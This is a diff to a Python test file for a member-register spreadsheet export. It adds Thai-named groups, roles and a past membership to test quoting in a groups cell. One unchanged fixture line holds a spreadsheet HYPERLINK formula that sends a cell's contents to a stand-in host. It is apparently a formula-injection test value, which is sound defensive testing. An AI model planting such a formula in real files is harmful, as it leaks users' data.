@@ -14,6 +14,7 @@ import python_calamine
 from sqlmodel import Session
 
 from db.engine import Database
+from db.groups import add_group_member, end_group_membership, save_group
 from db.io import export_members as em
 from db.members.edit import delete_member, save_member
 from db.members.types import MemberInput
@@ -41,6 +42,17 @@ FORMULA_NOTE = '=HYPERLINK("http://evil.example/?"&A2,"คลิก")'
 MINUS_NOTE = "-5 บาท ค้างชำระ"
 LINE_AT = "@shop_somchai"
 
+# Groups whose names need care in the groups cell (db.io.group_cells): a bracket of its own at
+# the end, a ";" (quoted), and a quote.
+CLUB = "ชมรมปลัด อบต. (ภาคอีสาน)"
+NETWORK = 'เครือข่ายนิติกร; "ภาคเหนือ"'
+COMMITTEE = "คณะกรรมการสมาคม"
+# somchai's groups cell: in the order he joined them, his role after each but a plain member's.
+SOMCHAI_GROUPS = (
+    'ชมรมปลัด อบต. (ภาคอีสาน) (สมาชิก); "เครือข่ายนิติกร; ""ภาคเหนือ""" (ประธาน);'
+    " คณะกรรมการสมาคม (เลขานุการ)"
+)
+
 
 @dataclass(frozen=True)
 class Register:
@@ -63,6 +75,9 @@ def build_register(database: Database) -> Register:
     kesini   เกศินี ศรีสุข, ทต.บ้านใหม่ (เชียงใหม่), 9-digit provincial landline, ID_B
     arun     อรุณ แสงทอง, no organisation, pending, nothing else
     gone     ลบแล้ว ไปแล้ว (deleted: never exported)
+
+    Groups: somchai is in CLUB (member), NETWORK (chair) and COMMITTEE (secretary); somying in
+    NETWORK (member); kesini was in COMMITTEE (treasurer) until 2020 (history, not exported).
     """
     with database.session() as s:
         orgs = {
@@ -105,8 +120,27 @@ def build_register(database: Database) -> Register:
             "gone": MemberInput(first_name="ลบแล้ว", last_name="ไปแล้ว", phone="0800000000"),
         }  # fmt: skip
         ids = {name: save_member(s, data=data) for name, data in rows.items()}
+        _join_groups(s, ids)
         delete_member(s, member_id=ids["gone"])
     return Register(database, ids, orgs)
+
+
+def _join_groups(session: Session, ids: dict[str, str]) -> None:
+    groups = {
+        name: save_group(session, name=name, kind=kind)
+        for name, kind in ((CLUB, "club"), (NETWORK, "network"), (COMMITTEE, "committee"))
+    }
+    for member, group, role in (
+        ("somchai", CLUB, "member"), ("somchai", NETWORK, "chair"),
+        ("somchai", COMMITTEE, "secretary"), ("somying", NETWORK, "member"),
+        ("gone", CLUB, "member"),
+    ):  # fmt: skip
+        add_group_member(session, group_id=groups[group], member_id=ids[member], role=role)
+    ended = add_group_member(
+        session, group_id=groups[COMMITTEE], member_id=ids["kesini"], role="treasurer",
+        started_on=dt.date(2018, 1, 1),
+    )  # fmt: skip
+    end_group_membership(session, membership_id=ended, ended_on=dt.date(2020, 1, 1))
 
 
 def read_xlsx(path: Path) -> list[list[object]]:
